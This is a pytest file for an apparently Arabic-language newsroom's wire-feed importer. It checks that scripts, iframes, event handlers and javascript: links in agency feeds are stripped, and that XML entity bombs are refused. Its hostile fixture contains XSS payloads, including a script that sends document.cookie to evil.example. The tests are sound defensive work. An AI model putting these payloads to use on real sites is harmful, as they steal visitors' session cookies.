"""Whatever an agency feed carries, nothing in it can run in the editor or on the page."""

import time

import pytest

from .samples import ENTITY_BOMB, EXTERNAL_ENTITY, STORIES, ninjs, ninjs_item, rss, story_html

pytestmark = pytest.mark.django_db

HOSTILE_BODY = (
    '<p onclick="steal()">موسكو: بحث المسؤولون <b onmouseover="x()">الاتفاق</b> '
    '<a href="javascript:alert(document.cookie)">هنا</a> و<a href="https://example.org/bayan" target="_blank">البيان</a> '
    'و<a href="mailto:desk@example.org">المراسل</a>.</p>'
    "<script>fetch('https://evil.example/'+document.cookie)</script>"
    '<img src="x" onerror="alert(1)">'
    '<iframe src="https://evil.example/frame">إطار</iframe>'
    "<style>body{display:none}</style>"
    '<p style="position:fixed" class="x"><strong>قال</strong> <em>المتحدث</em>: «لا تعليق».</p>'
    '<svg onload="alert(1)"><circle/></svg><object data="x.swf"></object>'
)


def test_scripts_frames_styles_events_and_javascript_links_never_reach_the_draft(agency_for, pull_now, admin_client):
    from khabar.wire.models import WireItem

    agency = agency_for("وكالة الصحافة الفرنسية", "/afp.json", ninjs([ninjs_item("urn:afp:h1", "talks", html=HOSTILE_BODY)]))

    assert pull_now(agency)["new"] == 1

    item = WireItem.objects.get(guid="urn:afp:h1")
    draft = item.article.specific.get_latest_revision_as_object()
    stored = "".join(block.value.source for block in draft.body)
    for html in (item.body_html, stored):
        lowered = html.lower()
        for forbidden in ("<script", "<iframe", "<style", "<img", "<svg", "<object", "onclick", "onmouseover",
                          "onerror", "javascript:", "style=", "class=", "target=", "document.cookie", "إطار"):
            assert forbidden not in lowered, forbidden
        assert '<a href="https://example.org/bayan" rel="noopener nofollow">البيان</a>' in html
        assert '<a href="mailto:desk@example.org" rel="noopener nofollow">المراسل</a>' in html
        assert "<b>قال</b> <i>المتحدث</i>" in html  # strong/em stored as Wagtail's b/i
        assert html.startswith("<p>بحث المسؤولون <b>الاتفاق</b> هنا")  # the link text stays, the link goes
    assert item.dateline == draft.dateline == "موسكو"
    # The editor opens the draft and sees the clean copy.
    page = admin_client.get(f"/admin/pages/{item.article_id}/edit/")
    assert page.status_code == 200
    assert STORIES["talks"]["headline"] in page.content.decode()
    assert "steal()" not in page.content.decode()


def test_markup_in_a_headline_is_reduced_to_its_text(agency_for, pull_now):
    from khabar.wire.models import WireItem

    headline = 'قمة <b>عربية</b> طارئة <img src=x onerror="alert(1)">في القاهرة'
    agency = agency_for("وكالة الصحافة الفرنسية", "/afp.rss", rss([("afp-1", headline, story_html("talks"), "")]))

    pull_now(agency)

    item = WireItem.objects.get(guid="afp-1")
    assert item.headline == item.article.title == "قمة عربية طارئة في القاهرة"


@pytest.mark.parametrize("payload", [ENTITY_BOMB, EXTERNAL_ENTITY], ids=["entity-bomb", "external-entity"])
def test_entity_bombs_and_external_entities_are_refused(payload, agency_for, pull_now):
    from khabar.wire.models import FeedState, WireItem

    agency = agency_for("وكالة مجهولة", "/hostile.xml", payload)

    started = time.monotonic()
    summary = pull_now(agency)

    assert time.monotonic() - started < 5  # refused before any expansion
    assert summary["new"] == 0
    assert summary["errors"] == ["رُفضت الخدمة: تحتوي على كيانات XML غير مسموح بها (حماية من الملفات المفخخة)"]
    assert not WireItem.objects.exists()
    state = FeedState.objects.get(agency=agency)
    assert state.failures == 1 and state.last_error == summary["errors"][0]
